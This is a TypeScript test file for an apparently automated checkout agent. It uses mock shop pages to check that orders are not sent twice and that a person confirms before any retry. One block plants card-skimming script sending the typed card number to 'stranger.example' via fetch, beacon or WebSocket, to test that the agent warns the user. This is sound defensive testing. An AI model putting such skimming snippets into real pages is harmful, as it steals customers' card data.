import type { Question } from "@cartwright/contract";
import { beforeAll, describe, expect, it } from "vitest";
import type { BrowserPool } from "../../src/index.ts";
import { sharedPool } from "../support/shared-pool.ts";
import { goodCard } from "./support/ada.ts";
import { buyFromPages, checkOutFromPages } from "./support/buy-from-pages.ts";
import { addressFields, type PageVisit, productAndBasket, type ShopPage } from "./support/page-shop.ts";

let pool: BrowserPool;
beforeAll(async () => {
  pool = await sharedPool();
});

const invoice = `<fieldset><legend>Payment method</legend><label><input type="radio" name="pay" value="invoice" checked> Invoice</label></fieldset>
  <p>Total $80.00</p><button>Place order</button>`;

/** Sends the order in its own way, and the page stays as it is. */
const ways = {
  fetch: "fetch('/order', { method: 'POST', body: data })",
  XHR: "const x = new XMLHttpRequest(); x.open('POST', '/order'); x.send(data)",
  "a GET request": "fetch('/order?' + data)",
  "a beacon": "navigator.sendBeacon('/order', data)",
  "a picture": "new Image().src = '/order?' + data",
  "a style sheet":
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/order?' + data }))",
  "a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/order', { method: 'POST', mode: 'no-cors', body: '" + data + "' })"]))).postMessage(1)`,
  "a form in a frame":
    "const f = document.forms.order; f.target = 'sink'; f.method = 'post'; f.action = '/order'; HTMLFormElement.prototype.submit.call(f)",
};

const complaints = {
  "an invalid box for the newsletter": `<form class="signup"><label>Your e-mail <input type="email" name="news" aria-invalid="true" value="nobody"></label><p class="error">Please enter a valid e-mail address.</p></form>`,
  "a banner that alerts": `<div role="alert" class="banner error">Please check the fields that are marked in red.</div>`,
  "a field of the checkout that is called wrong": `<form name="extra"><label>Nickname <input name="nick" aria-invalid="true" value="x"></label></form>`,
};

function checkout(send: string, { around = "", after = "" } = {}): Record<string, ShopPage> {
  const page = `<h1>Checkout</h1>${around}<form name="order">${addressFields}${invoice}</form><iframe name="sink" hidden></iframe><script>
    document.forms.order.onsubmit = (event) => { event.preventDefault();
      const data = String(new URLSearchParams(new FormData(document.forms.order))); ${send}; ${after} };</script>`;
  return { "/checkout": page, "/order": "{}" };
}

/** For an answer to the order that never comes. Whoever answers agrees to every way to pay, and to nothing else. */
const short = { patience: 0.1 };

describe.concurrent("an order that the shop takes without a word", { timeout: 120_000 }, () => {
  it("is not sent again, nor signed in for, where the sign-in beside every page is all that stands there as before", async () => {
    const beside = `<div style="float: right"><h4>Welcome</h4><form method="post" action="/session"><input name="login" placeholder="Username">
      <input type="password" name="secret" placeholder="Password"><label><input type="checkbox" name="stay"> Remember me</label><button>Login</button></form></div>`;
    const { outcome, host, shop } = await checkOutFromPages(
      pool,
      {
        "/checkout": `${beside}<h1>Your details</h1><form method="post" action="/payment">${addressFields}<button>Next</button></form>`,
        "/payment": `${beside}<h1>Payment</h1><form method="post" action="/order">${invoice}</form>`,
        "/order": `${beside}<h1>Vstore</h1><p>Have a look around.</p>`,
      },
      short,
    );

    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method"]);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  });

  it.each(Object.keys(complaints) as (keyof typeof complaints)[])("is sent once beside %s", async (what) => {
    const { outcome, host, shop } = await checkOutFromPages(
      pool,
      checkout(ways.fetch, { around: complaints[what] }),
      short,
    );

    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method"]);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
    expect(outcome).not.toMatchObject({ message: expect.stringMatching(/nothing was (ordered|bought)/i) });
  });

  it.each(Object.keys(ways) as (keyof typeof ways)[])("is sent once by %s", async (way) => {
    const around = complaints["an invalid box for the newsletter"];
    const { outcome, shop, host } = await checkOutFromPages(pool, checkout(ways[way], { around }), short);

    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toHaveLength(1);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  });
});

const says = (words: string) =>
  `document.querySelector('main').insertAdjacentHTML('afterbegin', '<p role="alert" class="error">${words}</p>')`;
const stale = `<p role="alert" class="error" id="old">Please enter a valid postcode.</p>`;

describe.concurrent("a complaint after the order was sent", { timeout: 120_000 }, () => {
  it.each([
    ["is put up again by a timer", "", `setTimeout(() => { old.replaceWith(old.cloneNode(true)) }, 1500)`],
    ["is put up again again and again", "", `setInterval(() => { old.outerHTML = old.outerHTML }, 700)`],
    [
      "stands in an advertisement's frame",
      "",
      `document.body.insertAdjacentHTML('beforeend', '<iframe src="http://card-fields.localhost:' + location.port + '/ad"></iframe>')`,
    ],
    [
      "is about the newsletter",
      complaints["an invalid box for the newsletter"].replace("<p class", "<p hidden class"),
      "setTimeout(() => { document.querySelector('.signup p').hidden = false }, 1500)",
    ],
  ])("that %s is no refusal", async (_what, around, after) => {
    const pages = {
      ...checkout(ways.fetch, { around: `${stale}${around}`, after }),
      "/ad": `<p role="alert" class="error">Your card was declined.</p>`,
    };
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, short);

    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method"]);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  });

  it.each([
    ["Please enter a valid postcode.", ways.fetch],
    ["You were too fast. Please wait a few seconds.", ways.fetch],
    ["Your payment was declined.", ways.fetch],
    ["Please enter a valid postcode.", ways["a beacon"]],
  ])("needs a person's word before anything is sent again: %s (%#)", async (words, way) => {
    const pages = checkout(way, { after: `setTimeout(() => ${says(words)}, 300)` });
    const no = () => ({ confirmed: "no" });
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, {
      answers: { payment_method: [agreed], confirm: [no] },
    });

    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method", "confirm"]);
    expect(host.questions[1]?.message).toContain(words);
    expect(host.questions[1]?.message).toContain("an order may exist");
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
    expect(outcome).not.toMatchObject({ message: expect.stringMatching(/nothing was ordered/i) });
  });

  it("is sent again where a person says so, once for each word", async () => {
    const after = `if (!window.sent) { window.sent = 1; setTimeout(() => ${says("Please enter a valid postcode.")}, 300) } else location = '/thanks'`;
    const pages = {
      ...checkout(ways.fetch, { after }),
      "/thanks": "<h1>Thank you for your order</h1><p>Your order has been placed.</p>",
    };
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, {
      answers: { payment_method: [agreed], confirm: [{ confirmed: "yes" }] },
    });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(shop.orders).toHaveLength(2);
    expect(host.submissions).toHaveLength(2);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method", "confirm"]);
  });

  it("is no refusal while the shop has not answered, though it takes ten seconds", async () => {
    const pages = {
      ...checkout("fetch('/order', { method: 'POST', body: data }).then(() => { location = '/thanks' })", {
        after: `setTimeout(() => ${says("Please enter a valid postcode.")}, 300)`,
      }),
      "/order": () => new Promise<string>((resolve) => setTimeout(() => resolve("{}"), 11_000)),
      "/thanks": "<h1>Thank you for your order</h1><p>Your order has been placed.</p>",
    };
    const { outcome, host, shop } = await checkOutFromPages(pool, pages);

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method"]);
  });
});

describe.concurrent("a shop that takes the order and shows its form once more", { timeout: 120_000 }, () => {
  it.each([
    ["in another document", ""],
    ["after a redirect", "to /checkout"],
    ["with the answer 204", "204 "],
  ])("%s gets it once", async (_how, answer) => {
    const page = `<h1>Checkout</h1>${stale}${complaints["an invalid box for the newsletter"]}<form method="post" action="/order">${addressFields}${invoice}</form>`;
    const pages = { "/checkout": page, "/order": answer || page };
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, {
      answers: { payment_method: [agreed], confirm: [{ confirmed: "no" }] },
      timing: { outcomeMs: 15_000 },
    });

    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toHaveLength(1);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  });

  it("and asks in so many words for the button once more gets it once, unless a person says otherwise", async () => {
    const page = `<h1>Checkout</h1><form method="post" action="/order">${addressFields}${invoice}</form>`;
    const asking = `<p>Your account was saved. Click "Place order" to continue.</p>${page}`;
    const { outcome, host, shop } = await checkOutFromPages(
      pool,
      { "/checkout": page, "/order": asking },
      { ...short, answers: { payment_method: [agreed], confirm: [{ confirmed: "no" }] } },
    );

    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method", "confirm"]);
    expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  });

  it("emptied by its script gets it once", async () => {
    const pages = checkout(ways.fetch, { around: stale, after: "document.forms.order.reset()" });
    const { shop, host } = await checkOutFromPages(pool, pages, short);

    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toHaveLength(1);
  });
});

describe.concurrent("a button that is slow to send", { timeout: 120_000 }, () => {
  it.each([
    ["without a sign", ""],
    ["behind a mark that says so", "document.querySelector('button').setAttribute('aria-busy', 'true')"],
  ])("is pressed once where it sends after six seconds, %s", async (_how, sign) => {
    const pages = checkout(`${sign}; setTimeout(() => { ${ways.fetch} }, 6000)`, { around: stale });
    const { shop, host } = await checkOutFromPages(pool, pages, { timing: { outcomeMs: 14_000 } });

    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toHaveLength(1);
  });
});

function agreed({ responseSchema }: Question) {
  return { payment_method: responseSchema.properties.payment_method?.oneOf?.[0]?.const ?? "" };
}

describe.concurrent("a page that sends the card by itself", { timeout: 120_000 }, () => {
  const sendIt = "fetch('/order', { method: 'POST', body: new URLSearchParams(new FormData(this.form)) })";
  const pages = (cvc: string, button: string) => ({
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}<p>Total $80.00</p>
      <label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
      <label>CVC <input name="cvc" ${cvc}></label><button ${button}>Place order</button></form>`,
  });

  it.each([
    ["once its last field is left", pages(`onchange="${sendIt}"`, "")],
    ["when the pointer reaches the button", pages("", `onmouseover="${sendIt}"`)],
    [
      "as another document in its own cipher, which leads back",
      {
        ...pages(
          `onchange="location = '/order?d=' + btoa([...this.form.number.value].reverse().join('.'))"`,
          "",
        ),
        // Reloaded, it has lost the card.
        "/order": "<script>location = '/checkout'</script>",
      },
    ],
    [
      "by a window that closes itself",
      {
        ...pages(
          `oninput="if (this.value.length > 2) window.open('/order?d=' + btoa([...this.form.number.value].reverse().join('.')))"`,
          "",
        ),
        "/order": "<script>close()</script>",
      },
    ],
  ])("%s gets no press without a person who knows that an order may exist", async (_when, shopPages) => {
    const answers = { card: [goodCard], confirm: [{ confirmed: "no" }] };
    const { outcome, host, shop } = await checkOutFromPages(pool, shopPages, { answers });

    expect(host.questions.at(-1)).toMatchObject({
      key: "confirm",
      message: expect.stringMatching(
        /(?:sent the card before|the page went elsewhere meanwhile).*an order may exist/,
      ),
    });
    expect(outcome).toMatchObject({ status: "failed" });
    expect(JSON.stringify(outcome)).not.toContain("Nothing was ordered");
    expect(shop.orders).toHaveLength(1);
    expect(host.submissions).toMatchObject([{ total: { amount: "80.00" } }]);
  });
});

describe.concurrent("a page that sends the card's number to a stranger", { timeout: 120_000 }, () => {
  const pagesWith = (script: string) => ({
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}<p>Total $80.00</p>
      <label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
      <label>CVC <input name="cvc"></label><button>Place order</button></form>
      <script>document.querySelector("[name=number]").addEventListener("change", ({ target: { value } }) => { ${script} })</script>`,
  });

  it.each([
    ["by a request", "fetch('http://stranger.example/?' + value, { mode: 'no-cors' })"],
    ["by a beacon", "navigator.sendBeacon('http://stranger.example/', value)"],
    ["in the address of a socket", "new WebSocket('ws://stranger.example/' + value.replace(/\\D/g, ''))"],
  ])("%s is not pressed on before a person was told", async (_how, script) => {
    const answers = { card: [goodCard], confirm: [{ confirmed: "no" }] };
    const { outcome, host, shop } = await checkOutFromPages(pool, pagesWith(script), { answers });

    expect(host.questions.at(-1)).toMatchObject({
      key: "confirm",
      message: expect.stringContaining("sent the number of the card to stranger.example"),
    });
    expect(outcome).toMatchObject({ status: "failed" });
    expect(shop.orders).toHaveLength(0);
  });

  it("as it is sent is told with the receipt", async () => {
    const script =
      "document.forms[0].onsubmit = () => { navigator.sendBeacon('http://stranger.example/', value) }";
    const { outcome, host } = await checkOutFromPages(pool, pagesWith(script), {
      answers: { card: [goodCard] },
    });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(host.steps.at(-1)).toMatchObject({
      label: expect.stringContaining("sent the number of the card to stranger.example"),
      facts: { remarks: expect.stringContaining("stranger.example") },
    });
  });

  it("is not asked about where the shop itself gets it", async () => {
    const answers = { card: [goodCard] };
    const pages = pagesWith("fetch('/cards', { method: 'POST', body: value })");
    const { outcome } = await checkOutFromPages(pool, pages, { answers });

    expect(outcome).toMatchObject({ status: "succeeded" });
  });
});

describe.concurrent("a press that a check of the form stops before anything is sent", {
  timeout: 120_000,
}, () => {
  const checked = (script: string, more = "") => ({
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields} <b role="alert" id="why"></b>${more}${invoice}</form>
      <script>const form = document.forms[0]; ${script}</script>`,
    "/order": "<h1>Thank you for your order</h1><p>Your order has been placed.</p>",
  });

  it("is made again without a person's word once the field that the page names is right", async () => {
    const pages = checked(`form.onsubmit = () => { if (form.zip.value === '4711') return true;
      form.zip.setAttribute('aria-invalid', 'true'); why.textContent = 'Please enter a valid postcode.'; return false }`);
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, {
      answers: { payment_method: [agreed], shipping: [{ postal_code: "4711" }] },
    });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).not.toContain("confirm");
    expect(host.questions.map(({ message }) => message).join()).not.toContain("may exist");
  });

  it("is made again with the card that is typed already", async () => {
    const number = (name: string, label: string) =>
      `<label>${label} <input name="${name}" autocomplete="cc-${name}"></label>`;
    const byCard = `${number("number", "Card number")}${number("exp", "Expiry (MM/YY)")}${number("csc", "CVC")}<p>Total $80.00</p><button>Pay now</button>`;
    const pages = {
      "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields} <b role="alert" id="why"></b>${byCard}</form><script>const form = document.forms[0];
        form.onsubmit = () => { if (form.zip.value === '4711') return true;
          form.zip.setAttribute('aria-invalid', 'true'); why.textContent = 'Please enter a valid postcode.'; return false }</script>`,
      "/order": "<h1>Thank you for your order</h1><p>Your order has been placed.</p>",
    };
    const { outcome, host, shop } = await checkOutFromPages(pool, pages, {
      answers: { card: [goodCard], shipping: [{ postal_code: "4711" }] },
    });

    expect(outcome).toMatchObject({ status: "succeeded" });
    expect(shop.orders).toHaveLength(1);
    expect(host.questions.map(({ key }) => key)).toEqual(["card", "shipping"]);
  });

  it("is told to have ordered nothing where the browser keeps the form back for a field that nobody sees", async () => {
    const unseen = `<p style="opacity: 0"><label>Fax <input name="fax" required></label></p>`;
    const { outcome, host, shop } = await checkOutFromPages(pool, checked("", unseen), {
      answers: { payment_method: [agreed], confirm: [{ confirmed: "yes" }] },
    });

    expect(shop.orders).toEqual([]);
    expect(outcome).not.toMatchObject({ code: "order_state_unknown" });
    expect(host.questions.map(({ message }) => message).join()).not.toContain("may exist");
  });

  it("needs a person's word where the page names no field, for it may still send the order", async () => {
    const pages = checked(`form.onsubmit = () => { ${says("Something is missing.")}; return false }`);
    const { host, shop } = await checkOutFromPages(pool, pages, {
      answers: { payment_method: [agreed], confirm: [{ confirmed: "no" }] },
    });

    expect(shop.orders).toEqual([]);
    expect(host.questions.map(({ key }) => key)).toEqual(["payment_method", "confirm"]);
  });
});

it("a shop that confirms an order when the item is added is not led to its checkout, and no order is denied", async () => {
  const pages = {
    ...productAndBasket,
    "/basket": `<h1>Thank you for your order</h1><p>Order number: PS-1001</p><a href="/checkout">Checkout</a>`,
  };
  const { outcome, shop } = await buyFromPages(pool, pages, short);

  expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
  expect(shop.visits.map(({ path }) => path)).not.toContain("/checkout");
});

it("an order whose answer asks to confirm it, over and over, is confirmed not once more", async () => {
  const again = `<h1>One moment</h1><form method="post" action="/order"></form>
    <script>setTimeout(() => { if (confirm("Do you want to confirm your order?")) document.forms[0].submit() }, 300)</script>`;
  const pages = {
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}${invoice}</form>`,
    "/order": again,
  };
  const { outcome, shop } = await checkOutFromPages(pool, pages, short);

  expect(shop.orders).toHaveLength(1);
  expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
});

it("an order whose answer sends the same form again by itself is sent once", async () => {
  const again = ({ sent }: PageVisit) =>
    `<h1>One moment</h1><form method="post" action="/order">${Object.entries(sent)
      .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
      .join("")}</form><script>setTimeout(() => document.forms[0].submit(), 300)</script>`;
  const pages = {
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}${invoice}</form>`,
    "/order": again,
  };
  const { outcome, shop } = await checkOutFromPages(pool, pages, short);

  expect(shop.orders).toHaveLength(1);
  expect(outcome).toMatchObject({ status: "failed", code: "order_state_unknown" });
});
